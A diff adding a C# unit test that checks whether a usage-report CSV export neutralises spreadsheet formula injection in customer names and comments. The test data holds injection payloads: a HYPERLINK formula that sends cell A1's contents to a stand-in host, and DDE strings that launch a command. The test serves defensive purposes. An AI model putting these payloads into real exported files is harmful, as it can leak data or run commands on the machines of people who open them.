@@ -328,5 +328,26 @@ namespace MspLicensing.Domain.Tests
                 System.Globalization.CultureInfo.CurrentCulture = previous;
             }
         }
+
+        [Theory]
+        [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")")]
+        [InlineData("+cmd|' /C calc'!A0")]
+        [InlineData("-2+3")]
+        [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+        [InlineData("\tTabbed")]
+        [InlineData("\rReturn")]
+        public void Exported_text_cells_cannot_run_as_spreadsheet_formulas_R55(string name)
+        {
+            var line = new UsageLine { Month = "2026-03", Customer = name, Product = "WFBSS", Provisioned = 5, Used = 6, OverProvisionedPercent = -20.0, Chargeable = 5, Comment = "=1+1" };
+            var csv = UsageExport.Write(new[] { line }, ExportFormat.Csv);
+            var row = csv.Split(new[] { "\r\n" }, StringSplitOptions.None)[1];
+            var quoted = name.IndexOfAny(new[] { ',', '"', '\r', '\n' }) >= 0 ? "\"'" + name.Replace("\"", "\"\"") + "\"" : "'" + name;
+            Assert.Contains("," + quoted + ",", row);
+            Assert.Contains(",'=1+1,", row);
+            // Numbers stay numbers: a negative over-provisioned percentage is not text.
+            Assert.Contains(",5,6,-20,5,", row);
+            // JSON carries the names as they are.
+            Assert.Contains("\"Comment\": \"=1+1\"", UsageExport.Write(new[] { line }, ExportFormat.Json));
+        }
     }
 }
